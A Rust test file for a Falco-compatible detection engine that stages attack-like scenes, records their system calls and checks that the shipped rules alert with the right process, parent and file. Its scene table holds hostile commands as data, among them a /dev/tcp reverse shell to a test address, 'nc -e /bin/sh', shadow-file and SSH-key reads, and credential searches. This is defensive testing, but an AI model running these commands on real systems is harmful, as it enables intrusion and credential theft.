//! What Falco's shipped rules forbid is done in a place of its own, recorded, and replayed with these rules: each alert
//! has the process, the parent and the file that did it.

use gabion_condition::format::Format;
use gabion_condition::rules::{Loader, Matching, RuleMatcher, RuleSet, Settings as RuleSettings};
use gabion_kernel_tests::{Program, live};
use gabion_probe::host::{self, Before};
use gabion_probe::syscalls::{Interest, Session, Settings};
use gabion_record::budget::Budget;
use gabion_record::fields::Scratch;
use gabion_scap::{Item, Merger, Reader, Writer};
use gabion_syscall::{Options, State};
use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;

const NEEDED: &[&str] = &["programs", "btf", "sys_exit", "sys_enter"];
const FILES: [&str; 3] =
    ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"];
/// Rules that alert with the right process, parent and file, of those below. The count only rises.
const FLOOR: usize = 72;

/// A rule, and the scene that breaks it: flags of `programs/forbidden.c`, parent, process, its arguments, and what the
/// file's name or the call's arguments contain.
type Scene =
    (&'static str, &'static str, &'static str, &'static str, &'static [&'static str], &'static str);

const SCENES: &[Scene] = &[
    (
        "Directory traversal monitored file read",
        "-",
        "launcher",
        "intruder",
        &["read", "/etc/../etc/../etc/passwd"],
        "/etc/passwd",
    ),
    (
        "Read sensitive file trusted after startup",
        "-",
        "launcher",
        "httpd",
        &["late-read", "/etc/shadow"],
        "/etc/shadow",
    ),
    (
        "Read sensitive file untrusted",
        "-",
        "launcher",
        "intruder",
        &["read", "/etc/shadow"],
        "/etc/shadow",
    ),
    ("Run shell untrusted", "-", "httpd", "sh", &["-c", "forbidden"], ""),
    ("System user interactive", "u", "sshd", "intruder", &[], ""),
    ("Terminal shell in container", "ct", "runc", "bash", &[], ""),
    ("Netcat Remote Code Execution in Container", "c", "launcher", "nc", &["-e", "/bin/sh"], ""),
    ("Search Private Keys or Passwords", "-", "launcher", "grep", &["BEGIN RSA PRIVATE", "/"], ""),
    (
        "Clear Log Activities",
        "-",
        "launcher",
        "intruder",
        &["truncate", "/var/log/auth.log"],
        "/var/log/auth.log",
    ),
    ("Remove Bulk Data from Disk", "-", "launcher", "shred", &["x"], ""),
    (
        "Create Symlink Over Sensitive Files",
        "-",
        "launcher",
        "intruder",
        &["symlink", "/etc/shadow", "/tmp/s"],
        "/etc/shadow",
    ),
    (
        "Create Hardlink Over Sensitive Files",
        "-",
        "launcher",
        "intruder",
        &["link", "/etc/shadow", "/tmp/h"],
        "/etc/shadow",
    ),
    (
        "Packet socket created in container",
        "c",
        "launcher",
        "intruder",
        &["packet-socket"],
        "AF_PACKET",
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "c",
        "launcher",
        "intruder",
        &["redirect"],
        "127.0.0.1",
    ),
    ("Linux Kernel Module Injection Detected", "c", "launcher", "intruder", &["module"], ""),
    (
        "Detect release_agent File Container Escapes",
        "c",
        "launcher",
        "intruder",
        &["write", "/tmp/release_agent"],
        "/tmp/release_agent",
    ),
    ("PTRACE attached to process", "-", "launcher", "intruder", &["attach"], "PTRACE_ATTACH"),
    ("PTRACE anti-debug attempt", "-", "launcher", "intruder", &["traceme"], "PTRACE_TRACEME"),
    ("Find AWS Credentials", "-", "launcher", "find", &["/", "-name", ".aws/credentials"], ""),
    ("Execution from /dev/shm", "-", "launcher", "/dev/shm/evil", &[], ""),
    ("Drop and execute new binary in container", "c", "launcher", "/layer/all/dropped", &[], ""),
    (
        "Disallowed SSH Connection Non Standard Port",
        "-",
        "launcher",
        "ssh",
        &["connect", "192.0.2.1", "443"],
        "192.0.2.1:443",
    ),
    ("Fileless execution via memfd_create", "m", "launcher", "ghost", &[], ""),
    (
        "Modify Shell Configuration File",
        "-",
        "launcher",
        "intruder",
        &["write", "~/.bashrc"],
        "~/.bashrc",
    ),
    (
        "Schedule Cron Jobs",
        "-",
        "launcher",
        "intruder",
        &["write", "/etc/cron.d/job"],
        "/etc/cron.d/job",
    ),
    ("Read ssh information", "-", "launcher", "intruder", &["read", "~/.ssh/id"], "~/.ssh/id"),
    ("DB program spawned process", "-", "mysqld", "intruder", &["spawned"], ""),
    ("Change thread namespace", "-", "launcher", "intruder", &["setns"], ""),
    ("Change namespace privileges via unshare", "cu", "launcher", "intruder", &["unshare"], ""),
    ("Launch Excessively Capable Container", "cp", "launcher", "entry", &[], ""),
    (
        "System procs network activity",
        "-",
        "launcher",
        "cat",
        &["connect", "192.0.2.1", "443"],
        "192.0.2.1:443",
    ),
    ("Program run with disallowed http proxy env", "e", "launcher", "curl", &["x"], ""),
    (
        "Unexpected UDP Traffic",
        "-",
        "launcher",
        "intruder",
        &["connect-udp", "192.0.2.1", "4000"],
        "192.0.2.1:4000",
    ),
    ("Non sudo setuid", "u", "launcher", "intruder", &["setuid", "1"], ""),
    ("User mgmt binaries", "-", "launcher", "useradd", &["x"], ""),
    ("Create files below dev", "-", "launcher", "intruder", &["write", "/dev/evil"], "/dev/evil"),
    (
        "Contact EC2 Instance Metadata Service From Container",
        "c",
        "launcher",
        "intruder",
        &["connect", "169.254.169.254", "80"],
        "169.254.169.254:80",
    ),
    (
        "Contact cloud metadata service from container",
        "c",
        "launcher",
        "intruder",
        &["connect", "169.254.169.254", "80"],
        "169.254.169.254:80",
    ),
    (
        "Launch Package Management Process in Container",
        "c",
        "launcher",
        "apt-get",
        &["install"],
        "",
    ),
    ("Launch Suspicious Network Tool in Container", "c", "launcher", "nmap", &["x"], ""),
    ("Launch Suspicious Network Tool on Host", "-", "launcher", "nmap", &["x"], ""),
    (
        "Delete or rename shell history",
        "-",
        "launcher",
        "intruder",
        &["unlink", "~/.bash_history"],
        "~/.bash_history",
    ),
    (
        "Set Setuid or Setgid bit",
        "-",
        "launcher",
        "intruder",
        &["setuid-bit", "/srv/file"],
        "/srv/file",
    ),
    ("Launch Remote File Copy Tools in Container", "c", "launcher", "scp", &["x"], ""),
    ("Launch Ingress Remote File Copy Tools in Container", "c", "launcher", "wget", &["x"], ""),
    (
        "Read environment variable from /proc files",
        "c",
        "launcher",
        "intruder",
        &["read", "/proc/self/environ"],
        "/proc/self/environ",
    ),
    (
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        "c",
        "runc",
        "tar",
        &["read", "/srv/secret"],
        "/srv/secret",
    ),
    (
        "Adding ssh keys to authorized_keys",
        "-",
        "launcher",
        "intruder",
        &["write", "~/.ssh/authorized_keys"],
        "~/.ssh/authorized_keys",
    ),
    (
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "e",
        "launcher",
        "intruder",
        &["tuned"],
        "",
    ),
    (
        "Backdoored library loaded into SSHD (CVE-2024-3094)",
        "-",
        "launcher",
        "sshd",
        &["read", "/srv/liblzma.so.5.6.0"],
        "/srv/liblzma.so.5.6.0",
    ),
    ("BPF Program Not Profiled", "-", "launcher", "intruder", &["bpf"], ""),
    (
        "Update Package Repository",
        "-",
        "launcher",
        "intruder",
        &["write", "/etc/apt/sources.list.d/evil.list"],
        "/etc/apt/sources.list.d/evil.list",
    ),
    (
        "Write below binary dir",
        "-",
        "launcher",
        "intruder",
        &["write", "/usr/bin/evil"],
        "/usr/bin/evil",
    ),
    (
        "Write below monitored dir",
        "-",
        "launcher",
        "intruder",
        &["write", "/boot/evil"],
        "/boot/evil",
    ),
    ("Write below etc", "-", "launcher", "intruder", &["write", "/etc/evil"], "/etc/evil"),
    ("Write below root", "-", "launcher", "intruder", &["write", "/evil"], "/evil"),
    (
        "Write below rpm database",
        "-",
        "launcher",
        "intruder",
        &["write", "/var/lib/rpm/Packages"],
        "/var/lib/rpm/Packages",
    ),
    (
        "Modify binary dirs",
        "-",
        "launcher",
        "intruder",
        &["rename", "/usr/bin/tool", "/usr/bin/tool2"],
        "/usr/bin/tool",
    ),
    (
        "Mkdir binary dirs",
        "-",
        "launcher",
        "intruder",
        &["mkdir", "/usr/bin/evil-folder"],
        "/usr/bin/evil-folder",
    ),
    (
        "Detect crypto miners using the Stratum protocol",
        "-",
        "launcher",
        "worker",
        &["stratum+tcp://192.0.2.1"],
        "",
    ),
    ("Kubernetes Client Tool Launched in Container", "c", "launcher", "kubectl", &["get"], ""),
    ("Sudo Potential Privilege Escalation", "-", "launcher", "sudoedit", &["-s", "\\"], ""),
    (
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        "u",
        "launcher",
        "intruder",
        &["userfaultfd"],
        "",
    ),
    (
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "-",
        "launcher",
        "pkexec",
        &[],
        "",
    ),
    ("Decoding Payload in Container", "c", "launcher", "base64", &["-d"], ""),
    ("Basic Interactive Reconnaissance", "t", "launcher", "whoami", &[], ""),
    ("Netcat/Socat Remote Code Execution on Host", "-", "launcher", "nc", &["-e", "/bin/sh"], ""),
    ("Network Tool Executed During NPM Package Install", "c", "npm", "nmap", &["y"], ""),
    ("Known Cryptominer Process Executed", "-", "launcher", "xmrig", &[], ""),
    ("Web Server Spawned Shell", "-", "nginx", "sh", &["-c", "forbidden"], ""),
    ("Web Server Spawned Suspicious Child Process", "-", "nginx", "id", &[], ""),
    (
        "Reverse Shell from Web Server",
        "-",
        "nginx",
        "bash",
        &["-c", "bash -i >& /dev/tcp/192.0.2.1/443"],
        "",
    ),
    (
        "Privileged Container Device Access",
        "c",
        "launcher",
        "intruder",
        &["read", "/dev/sdz"],
        "/dev/sdz",
    ),
    (
        "Container Access to Host Sensitive Paths",
        "c",
        "launcher",
        "intruder",
        &["read", "/host/secret"],
        "/host/secret",
    ),
];

/// The folder of root for `~`.
fn at_home(text: &str) -> String {
    text.replace('~', "/root")
}

/// A control group whose name is that of a container; it is removed again.
struct Container(PathBuf);

impl Container {
    fn new(test: &str) -> Option<Container> {
        let name = format!("docker-{:064x}.scope", std::process::id());
        for base in ["/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpuset", "/sys/fs/cgroup"] {
            let folder = Path::new(base).join(&name);
            if std::fs::create_dir(&folder).is_ok() {
                if folder.join("cgroup.procs").exists() {
                    return Some(Container(folder));
                }
                let _ = std::fs::remove_dir(&folder);
            }
        }
        eprintln!("skipped: {test}: no control group can be made");
        None
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.0);
    }
}

fn rules(folder: &Path) -> RuleSet {
    let mut loader = Loader::new(RuleSettings::default());
    for name in FILES {
        let text = std::fs::read_to_string(folder.join(name)).expect("the file is there");
        assert!(loader.load(name, &text).is_successful(), "{name}");
    }
    loader.into_rules()
}

/// Plays the scenes and records every call meanwhile, as a scap file.
fn recorded(program: &Program, container: &Container) -> Vec<u8> {
    let mut command = program.command("stage");
    command.arg(container.0.join("cgroup.procs"));
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("the program starts");
    let mut ready = String::new();
    BufReader::new(child.stdout.take().expect("it has an output"))
        .read_line(&mut ready)
        .expect("it is text");
    let place = ready.strip_prefix("ready ").expect("the place is made").trim().to_owned();
    let settings = Settings { ring_bytes: 32 << 20, ..Settings::new(Interest::all()) };
    let mut session = Session::start(&settings).expect("it is here");
    let mut writer = Writer::new(Vec::new());
    writer.section().expect("memory");
    host::read(Path::new("/"), &mut |before| {
        let item = match before {
            Before::Machine(machine) => Item::Machine(machine),
            Before::Thread(entry) => Item::Process(entry),
            Before::Fd(entry) => Item::Fd(entry),
            Before::User(entry) => Item::User(entry),
        };
        writer.write(&item).expect("memory");
    });
    let mut scenes = child.stdin.take().expect("it has an input");
    let player = std::thread::spawn(move || {
        // First what waits for 5 s.
        let (waits, rest): (Vec<_>, Vec<_>) =
            SCENES.iter().partition(|scene| scene.4.contains(&"late-read"));
        for (_, flags, parent, process, arguments, _) in waits.into_iter().chain(rest) {
            let mut fields: Vec<&str> = vec![flags, parent, process];
            fields.extend_from_slice(arguments);
            writeln!(scenes, "{}", at_home(&fields.join("\t"))).expect("the program reads");
        }
    });
    let status = loop {
        let events = session.poll(&mut |call| writer.event(&call.event).expect("memory"));
        if events == 0 {
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
        if let Some(status) = child.try_wait().expect("it is our child") {
            break status;
        }
    };
    while session.poll(&mut |call| writer.event(&call.event).expect("memory")) > 0 {}
    player.join().expect("all scenes are written");
    let _ = std::fs::remove_dir(place);
    assert!(status.success(), "{status}");
    let total = session.counts().total();
    assert_eq!(total.received, total.passed, "nothing is shed: {:?}", session.counts());
    writer.finish().expect("memory")
}

/// An alert: rule, process, parent, and the texts in which the file stands.
type Alert = (String, String, String, String);

fn alerts(recording: Vec<u8>, rules: &RuleSet) -> BTreeSet<Alert> {
    let format = Format::new("%proc.name\t%proc.pname\t%fd.name %evt.args").expect("it is right");
    let mut state = State::new(Options::default(), Budget::standalone("threads", 256 << 20));
    let (mut matcher, mut matched) = (RuleMatcher::new(rules), Vec::new());
    let (mut scratch, mut out) = (Scratch::new(), Vec::new());
    let mut reader = Reader::new(std::io::Cursor::new(recording)).expect("we wrote it");
    let (mut merger, mut found) = (Merger::new(), BTreeSet::new());
    while let Some(item) = reader.next_item().expect("we wrote it") {
        let Item::Event(event) = item else {
            state.add(item);
            continue;
        };
        let Some(event) = merger.merge(event) else { continue };
        state.apply(&event);
        if !state.is_for_rules() {
            continue;
        }
        let view = state.view(&event);
        matcher.matches(rules, &view, Matching::All, &mut matched);
        for rule in matched.iter().filter_map(|number| rules.rules().get(*number as usize)) {
            out.clear();
            format.write(&view, &mut scratch, &mut out);
            let text = String::from_utf8_lossy(&out).into_owned();
            let mut parts = text.splitn(3, '\t').map(str::to_owned);
            let mut next = || parts.next().unwrap_or_default();
            found.insert((rule.name.clone(), next(), next(), next()));
        }
    }
    found
}

#[test]
fn what_shipped_rules_forbid_is_found_with_its_process_parent_and_file() {
    let name = "what_shipped_rules_forbid_is_found_with_its_process_parent_and_file";
    let Some(folder) = gabion_corpus::find(name, "falco-rules") else { return };
    let Some(_guard) = live(name, NEEDED) else { return };
    let Some(program) = Program::built_static("forbidden", name) else { return };
    let Some(container) = Container::new(name) else { return };
    let rules = rules(&folder);
    assert_eq!(rules.enabled(), 81);
    let found = alerts(recorded(&program, &container), &rules);
    let mut right = 0;
    for (rule, _, parent, process, _, file) in SCENES {
        assert!(rules.rules().iter().any(|r| r.name == *rule), "{rule}: no such rule");
        let process = process.rsplit('/').next().unwrap_or(process);
        // A program that runs from memory has the number of its descriptor as name.
        let is_its = |alert: &&Alert| {
            alert.0 == *rule
                && (alert.1 == process || process == "ghost")
                && alert.2 == *parent
                && alert.3.contains(&at_home(file))
        };
        if found.iter().any(|alert| is_its(&alert)) {
            right += 1;
            continue;
        }
        let others: Vec<_> = found.iter().filter(|alert| alert.0 == *rule).take(2).collect();
        println!("{rule}: {process} of {parent}, {file:?}: instead {others:?}");
    }
    println!("{right} of {} rules alert with the right process, parent and file", SCENES.len());
    assert!(right >= FLOOR, "{right} of {}", SCENES.len());
}
